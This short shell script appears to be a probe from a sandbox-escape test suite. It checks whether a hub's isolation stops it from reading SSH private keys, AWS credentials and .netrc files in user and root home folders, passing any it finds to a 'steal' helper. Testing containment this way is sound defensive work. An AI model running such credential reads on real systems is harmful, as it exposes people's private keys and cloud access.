# Reads keys and tokens from the home folder of the user that runs the hub.
# Why: private keys and cloud credentials lie there, and a name like ~/.ssh is all it takes.
# needs: any
# at-none: escapes
. "$(dirname "$0")/attempt.sh"
for folder in "$home" ~ "$HOME" /root /home/*; do
  for file in .ssh/id_ed25519 .aws/credentials .netrc; do
    steal "$folder/$file" < <(cat "$folder/$file")
  done
done
held 'no home has anything of worth'
